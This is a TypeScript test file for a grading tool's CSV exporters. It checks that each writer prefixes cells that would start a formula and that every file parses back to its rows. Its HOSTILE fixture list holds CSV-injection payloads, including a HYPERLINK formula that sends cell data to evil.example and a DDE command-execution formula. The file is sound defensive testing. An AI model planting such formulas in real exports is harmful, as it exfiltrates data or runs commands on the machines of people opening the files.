/**
 * Every CSV the project writes goes through one writer: no cell a spreadsheet
 * would run as a formula, quoting that keeps each row whole (a lone CR too),
 * and each file parses back to exactly its rows.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { diffResults } from '../../src/diff/index.ts';
import { diffCsvRows, renderDiffCsv } from '../../src/diff/render.ts';
import { csvText, protectCell, unprotectCell } from '../../src/reporters/csv.ts';
import { gradesCsvRows } from '../../src/reporters/grades-csv.ts';
import { itemAnalysisCsvRows } from '../../src/reporters/item-analysis-csv.ts';
import { canvasCsvRows, moodleCsvRows, unmatchedCsvRows } from '../../src/reporters/lms-csv.ts';
import type { ClassReportInput } from '../../src/reporters/types.ts';
import { collectGroupedReviewRows, collectReviewRows, renderGroupedReviewCsv, renderReviewCsv } from '../../src/review/export.ts';
import { GROUPED_REVIEW_COLUMNS, REVIEW_COLUMNS } from '../../src/review/types.ts';
import type { SubmissionResult } from '../../src/types.ts';
import { loadQuizInfo, loadResults } from './helpers.ts';

/** Text that starts a formula, or would once a row is split at a bare CR or LF. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|'/c calc'!A1",
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'a\r=1+1',
  'b\n=1+1',
  'c\r\n@x',
  'Ines, "Jr"',
  '-5',
];

describe('protectCell', () => {
  it.each([
    // cell, as written
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['-', "'-"],
    ['-5', '-5'],
    ['-0.25', '-0.25'],
    ['-1.5e-3', '-1.5e-3'],
    ['3', '3'],
    ['plain', 'plain'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j -> %j', (cell, written) => {
    expect(protectCell(cell)).toBe(written);
    expect(unprotectCell(written)).toBe(cell);
  });
});

describe('csvText', () => {
  it('quotes a field holding a CR or LF anywhere, whatever the line ends', () => {
    for (const crlf of [false, true]) {
      const text = csvText([['a\rb', 'c\nd', 'e']], { crlf });
      expect(text.startsWith('"a\rb","c\nd",e')).toBe(true);
      expect(parse(text)).toEqual([['a\rb', 'c\nd', 'e']]);
    }
  });

  it('writes a byte order mark and CRLF when asked', () => {
    expect(csvText([['a'], ['b']], { bom: true, crlf: true })).toBe('\uFEFFa\r\nb\r\n');
  });
});

/** The demo class with hostile identities and answers in every student-controlled field. */
function hostileClass(): SubmissionResult[] {
  return loadResults().map((result, i) => {
    const text = HOSTILE[i % HOSTILE.length] as string;
    return {
      ...result,
      student: { id: i === 0 ? result.student.id : `${HOSTILE[(i + 3) % HOSTILE.length]}${i}`, name: text, email: HOSTILE[(i + 5) % HOSTILE.length] as string },
      parts: result.parts.map((part) => {
        const { interpreted: _interpreted, normalized: _normalized, ...rest } = part;
        return part.status === 'correct' ? part : { ...rest, answer: text };
      }),
    };
  });
}

const results = hostileClass();
const input: ClassReportInput = { results, quiz: loadQuizInfo() };

/** Old results against the hostile class: every student but one is on one side only, the one left has changed parts. */
const diffed = await diffResults(loadResults(), results);

/** Every CSV output: its rows as built, and the text written. */
const OUTPUTS: [string, () => Iterable<readonly string[]>, () => string][] = [
  ['grades.csv', () => gradesCsvRows(input), () => csvText(gradesCsvRows(input))],
  ['canvas.csv', () => canvasCsvRows(input), () => csvText(canvasCsvRows(input))],
  ['moodle.csv', () => moodleCsvRows(input), () => csvText(moodleCsvRows(input))],
  ['unmatched.csv', () => unmatchedCsvRows(input), () => csvText(unmatchedCsvRows(input))],
  ['item-analysis.csv', () => itemAnalysisCsvRows(input), () => csvText(itemAnalysisCsvRows(input))],
  [
    'review.csv',
    () => [REVIEW_COLUMNS, ...collectReviewRows(results).map((row) => REVIEW_COLUMNS.map((column) => row[column]))],
    () => renderReviewCsv(collectReviewRows(results)),
  ],
  [
    'review.csv --group',
    () => [GROUPED_REVIEW_COLUMNS, ...collectGroupedReviewRows(results).map((row) => GROUPED_REVIEW_COLUMNS.map((column) => row[column]))],
    () => renderGroupedReviewCsv(collectGroupedReviewRows(results)),
  ],
  ['diff --csv', () => diffCsvRows(diffed), () => renderDiffCsv(diffed)],
];

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

describe.each(OUTPUTS)('%s with hostile names, ids, emails and answers', (_name, rowsOf, render) => {
  const rows = [...rowsOf()].map((row) => [...row]);
  const back = parse(render(), { bom: true, relax_column_count: false }) as string[][];

  it('holds hostile text (the test would prove nothing otherwise)', () => {
    expect(rows.flat().some((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))).toBe(true);
  });

  it('parses back to exactly its rows, each cell protected', () => {
    expect(back).toEqual(rows.map((row) => row.map(protectCell)));
  });

  it('has no cell that starts a formula, and plain numbers stay numbers', () => {
    for (const cell of back.flat()) expect(FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell), JSON.stringify(cell)).toBe(false);
    expect(back.flat().filter((cell) => PLAIN_NUMBER.test(cell)).length).toBeGreaterThan(0);
  });

  it('reads back to the original text once the prefix is taken off', () => {
    expect(back.map((row) => row.map(unprotectCell))).toEqual(rows);
  });
});
